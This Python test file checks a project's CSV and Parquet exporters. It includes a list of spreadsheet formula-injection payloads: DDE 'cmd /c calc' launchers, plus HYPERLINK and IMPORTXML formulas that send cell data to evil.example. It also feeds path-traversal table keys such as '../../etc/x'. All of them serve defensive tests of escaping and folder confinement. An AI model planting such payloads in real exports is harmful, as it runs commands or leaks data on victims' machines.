import csv
import json
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from communique.schemas import DocumentInfo, Meeting, Participant, Record, VerifiedSummary
from communique.schemas.rows import layout_of
from communique.sinks import FanOut, SinkOptions, sink_named
from communique.sinks.csv_table import escape, unescape
from communique.sinks.sink import table_path

PAYLOADS = [
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    "@SUM(1+1)*cmd|'/c calc'!A0",
    " =1+1",
    "\u00a0=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "first line\n=1+1",
    "-2+3+cmd|'/c calc'!A0",
    "+1+1",
    "＝1+1",
    "'=1+1",
    "\ufeff=1+1",
    '=DDE("cmd";"/c calc";"x")',
]


def write(folder, summaries, name, **options):
    sink = sink_named(name)
    with FanOut([(sink, folder / f"out{sink.suffix}")], SinkOptions(**options)) as out:
        for summary in summaries:
            out.write(summary)
    return folder


def read(path):
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


@given(st.text() | st.text("'=+-@＝ \t\r\n\0\u2028x", max_size=12))
@example("'\n=1")
@example("\n=1")
def test_unescape_restores_every_cell(value):
    assert unescape(escape(value)) == value


@given(st.text("'=+-@＝＠ \t\r\n\xa0x", max_size=12))
def test_no_line_of_an_escaped_cell_begins_with_a_formula(value):
    for line in escape(value).replace("\r", "\n").split("\n"):
        assert line.strip()[:1] not in set("=+-@＝＋－＠")
        assert not line.startswith("\t")


def test_ordinary_text_and_numbers_are_left_alone():
    assert [escape(v) for v in ("Port Amsel", "林海", "“x”", "it's = 1", "a-b", "")] == [
        "Port Amsel",
        "林海",
        "“x”",
        "it's = 1",
        "a-b",
        "",
    ]


def test_there_is_a_table_per_record_type_also_for_none(tmp_path):
    write(tmp_path, [], "csv")

    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "out.allegations.csv",
        "out.meetings.csv",
        "out.sanctions_concerns.csv",
    ]
    assert (tmp_path / "out.meetings.csv").read_text().startswith('"document_id","document_title","published"')


def test_a_folder_takes_the_tables(tmp_path, summaries):
    with FanOut([(sink_named("csv"), tmp_path)]) as out:
        out.write(summaries[0])

    assert (tmp_path / "records.meetings.csv").exists()


def test_a_row_says_what_the_record_says(tmp_path, summaries):
    write(tmp_path, summaries, "csv")

    row = read(tmp_path / "out.allegations.csv")[0]

    assert row["claim"] == "Varland shipped drone engines to the Isk militia."
    assert (row["accusers"], row["accused"], row["accused_countries"], row["denied_by"]) == (
        "Norlandia",
        "Varland",
        "aq",
        "Varland",
    )
    assert (row["verdict"], row["response_status"]) == ("flagged", "denied")
    assert (row["flags"], row["left_out"], row["corrected"]) == (
        "commitment: doubt_words",
        "accusers[1].name: Ana Lund",
        "activity: other -> arms_transfer",
    )
    assert row["evidence"] == "Norlandia accused Varland of shipping drone engines to the Isk militia."
    assert row["document_title"] == "Harbour talks end without a deal"
    assert len(read(tmp_path / "out.meetings.csv")) == 3


def hostile(payload):
    info = DocumentInfo(id=payload, sha256="0", title=payload, outlet=payload, source=payload)
    meeting = Meeting(
        status="held",
        participants=(Participant(name=payload),),
        topics=(payload,),
        outcome=payload,
        when=payload,
    )
    return VerifiedSummary(document=info, records={"meetings": (meeting,)})


def test_formulas_are_escaped_in_every_column_and_left_with_raw(tmp_path):
    (tmp_path / "raw").mkdir()
    write(tmp_path, map(hostile, PAYLOADS), "csv")
    write(tmp_path / "raw", map(hostile, PAYLOADS), "csv", csv_raw=True)

    safe, raw = read(tmp_path / "out.meetings.csv"), read(tmp_path / "raw" / "out.meetings.csv")

    for name in (
        "document_id",
        "document_title",
        "outlet",
        "source",
        "participants",
        "topics",
        "outcome",
        "when",
    ):
        assert [unescape(r[name]) for r in safe] == [r[name] for r in raw] == PAYLOADS
        assert all(r[name] != p for r, p in zip(safe, PAYLOADS, strict=True))


@pytest.mark.slow
@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_libreoffice_finds_no_formula(tmp_path):
    openpyxl = pytest.importorskip("openpyxl", reason="openpyxl is not installed")
    write(tmp_path, map(hostile, PAYLOADS), "csv")
    (tmp_path / "control.csv").write_text('"=1+1"\n', encoding="utf-8")

    command = [
        "soffice",
        f"-env:UserInstallation=file://{tmp_path}/profile",
        "--headless",
        "--infilter=CSV:44,34,76,1",
    ]
    command += [
        "--convert-to",
        "xlsx",
        "--outdir",
        str(tmp_path),
        str(tmp_path / "out.meetings.csv"),
        str(tmp_path / "control.csv"),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=120)

    def formulas(name):
        sheet = openpyxl.load_workbook(tmp_path / name).active
        return [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]

    assert openpyxl.load_workbook(tmp_path / "out.meetings.xlsx").active.max_row == len(PAYLOADS) + 1
    assert formulas("control.xlsx") == ["A1"]
    assert formulas("out.meetings.xlsx") == []


class Price(Record):
    """A price is stated."""

    amount: int
    share: float = 0.5
    firm: bool = True
    id_note: str | None = None
    extra: dict[str, int] = {}  # noqa: RUF012


def test_numbers_and_flags_of_a_users_record_stay_typed(tmp_path):
    summary = VerifiedSummary(
        document=DocumentInfo(id="x", sha256="0"), records={"prices": (Price(amount=-5, extra={"a": 1}),)}
    )

    write(tmp_path, [summary], "csv")

    text = (tmp_path / "out.prices.csv").read_text()
    assert ',-5,0.5,"True",' in text or ",-5,0.5,True," in text
    assert read(tmp_path / "out.prices.csv")[0]["extra"] == '{"a":1}'


def test_a_type_that_is_not_installed_keeps_its_fields_in_one_column(tmp_path):
    data = VerifiedSummary(
        document=DocumentInfo(id="x", sha256="0"), records={"prices": (Price(amount=5),)}
    ).model_dump(mode="json")

    write(tmp_path, [VerifiedSummary.from_json(data)], "csv")

    assert json.loads(read(tmp_path / "out.prices.csv")[0]["fields"])["amount"] == 5


@pytest.mark.parametrize("key", ["../../etc/x", "a/b", "..", "nul\0", "x" * 400, ""])
@pytest.mark.parametrize("name", ["csv", "parquet"])
def test_a_key_from_a_strangers_file_stays_in_the_folder(tmp_path, key, name):
    folder = tmp_path / "in" / "side"
    folder.mkdir(parents=True)
    summary = VerifiedSummary(document=DocumentInfo(id="x", sha256="0"), records={key: (Price(amount=5),)})

    write(folder, [summary], name)

    assert len(list(folder.iterdir())) == 4
    assert [p.name for p in tmp_path.iterdir()] == ["in"]
    assert table_path(folder / "out.csv", key).parent == folder


def test_column_names_are_unique():
    for kind in (Meeting, Price):
        assert len(set(layout_of(kind).columns)) == len(layout_of(kind).columns)


def test_parquet_is_typed_and_lossless(tmp_path, summaries):
    parquet = pytest.importorskip("pyarrow.parquet")
    write(tmp_path, summaries, "parquet")

    for key in ("meetings", "allegations", "sanctions_concerns"):
        rows = parquet.read_table(tmp_path / f"out.{key}.parquet").to_pylist()
        records = [(s, r) for s in summaries for r in s.records.get(key, ())]
        assert len(rows) == len(records)
        for row, (summary, record) in zip(rows, records, strict=True):
            assert row["document_id"] == summary.document.id
            assert (
                type(record).model_validate({k: v for k, v in row.items() if k in type(record).model_fields}) == record
            )


def test_parquet_evidence_is_a_list_of_structs(tmp_path):
    arrow = pytest.importorskip("pyarrow")
    from pyarrow import parquet

    write(tmp_path, [], "parquet")

    found = parquet.read_schema(tmp_path / "out.meetings.parquet").field("evidence").type
    assert arrow.types.is_list(found)
    assert found.value_type.field("start").type == arrow.int64()


def test_parquet_keeps_a_users_record_and_an_unknown_one(tmp_path):
    parquet = pytest.importorskip("pyarrow.parquet")
    summary = VerifiedSummary(
        document=DocumentInfo(id="x", sha256="0"), records={"prices": (Price(amount=5, extra={"a": 1}),)}
    )
    unknown = VerifiedSummary.from_json(summary.model_dump(mode="json"))
    (tmp_path / "b").mkdir()

    write(tmp_path, [summary], "parquet")
    write(tmp_path / "b", [unknown], "parquet")

    (row,) = parquet.read_table(tmp_path / "out.prices.parquet").to_pylist()
    assert (row["amount"], row["share"], row["firm"], row["extra"]) == (5, 0.5, True, '{"a":1}')
    (row,) = parquet.read_table(tmp_path / "b" / "out.prices.parquet").to_pylist()
    assert json.loads(row["fields"])["amount"] == 5


def test_duckdb_reads_the_parquet(tmp_path, summaries):
    duckdb = pytest.importorskip("duckdb", reason="duckdb is not installed")
    write(tmp_path, summaries, "parquet")

    query = f"select accused[1].name, evidence[1].sentence from '{tmp_path}/out.allegations.parquet' order by 2 desc"

    assert duckdb.sql(query).fetchall() == [("Varland", 4), ("شركة الأفق", 2)]


@pytest.fixture(scope="module")
def many(invented):
    return [s for _, s in invented.summaries(1000)]


@pytest.mark.parametrize("name", ["csv", "parquet"])
def test_export_is_not_slow(tmp_path, name, many):
    write(tmp_path, [], name)  # what is imported for it doesn't count
    start = time.process_time()

    write(tmp_path, many, name)

    assert (
        2500 / (time.process_time() - start) > 8000
    )  # of processor time; 30,000 were measured (docs/design/studies/benchmarks.md)


GROWTH = """
import resource, runpy, sys
from communique.sinks import FanOut, sink_named

summaries = runpy.run_path(sys.argv[1])["summaries"]
with FanOut([(sink_named(sys.argv[2]), sys.argv[3])]) as out:
    for number, (document, summary) in enumerate(summaries(500)):
        out.write(summary, document.text)
        if number == 100:
            early = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - early)
"""


@pytest.mark.slow
@pytest.mark.parametrize(("name", "module"), [("sqlite", "sqlite3"), ("xlsx", "xlsxwriter")])
def test_memory_does_not_grow_with_the_number_of_documents(tmp_path, name, module):
    pytest.importorskip(module)
    invented = Path(__file__).with_name("invented.py")

    done = subprocess.run(
        [sys.executable, "-c", GROWTH, invented, name, tmp_path / "out"],
        check=True,
        capture_output=True,
        text=True,
        timeout=120,
    )

    assert int(done.stdout) < 3000  # KB; the files are larger
